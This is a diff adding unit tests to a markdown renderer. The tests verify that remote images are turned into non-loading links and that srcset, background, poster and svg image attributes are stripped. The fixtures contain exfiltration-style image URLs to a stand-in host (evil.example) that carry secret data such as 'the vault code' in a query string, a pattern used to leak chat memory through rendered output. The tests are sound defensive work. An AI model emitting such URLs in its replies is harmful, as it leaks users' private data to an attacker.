@@ -37,6 +37,36 @@ describe('renderMarkdown', () => {
     expect(dom(html).querySelector('img')?.getAttribute('src')).toBe('x');
   });
 
+  it('shows remote images as links that load nothing, in Markdown and in raw HTML', () => {
+    const leak = 'https://evil.example/pixel.png?memory=the%20vault%20code';
+    for (const source of [`![chart](${leak})`, `<img src="${leak}" alt="chart">`, `<img src="//evil.example/pixel.png?memory=x" alt="chart">`]) {
+      const el = dom(renderMarkdown(`Here you go: ${source}`));
+      expect(el.querySelector('img')).toBeNull();
+      const link = el.querySelector('a.remote-image') as HTMLAnchorElement;
+      expect(link.textContent).toBe('Image: chart');
+      expect(link.href).toContain('evil.example/pixel.png');
+      expect(link.rel).toContain('noreferrer');
+    }
+  });
+
+  it('loads only same-origin and inline images', () => {
+    const dataUrl = 'data:image/png;base64,iVBORw0KGgo=';
+    const el = dom(renderMarkdown(`![a](/api/pic.png) ![b](${dataUrl}) ![c](${window.location.origin}/c.png)`));
+    expect(Array.from(el.querySelectorAll('img')).map((i) => i.getAttribute('src'))).toEqual(['/api/pic.png', dataUrl, `${window.location.origin}/c.png`]);
+  });
+
+  it('keeps nothing else that fetches by itself', () => {
+    const html = renderMarkdown(
+      '<img src="/ok.png" srcset="https://evil.example/a.png 2x">' +
+        '<div style="background-image:url(https://evil.example/b.png)">x</div>' +
+        '<table background="https://evil.example/c.png"><tr><td>t</td></tr></table>' +
+        '<video poster="https://evil.example/d.png" src="https://evil.example/e.mp4"></video>' +
+        '<picture><source srcset="https://evil.example/f.png"></picture>' +
+        '<svg><image href="https://evil.example/g.png"></image></svg>',
+    );
+    expect(html).not.toContain('evil.example');
+  });
+
   it('opens links in a new tab without the opener', () => {
     const a = dom(renderMarkdown('[docs](https://example.org/docs)')).querySelector('a')!;
     expect(a.getAttribute('href')).toBe('https://example.org/docs');
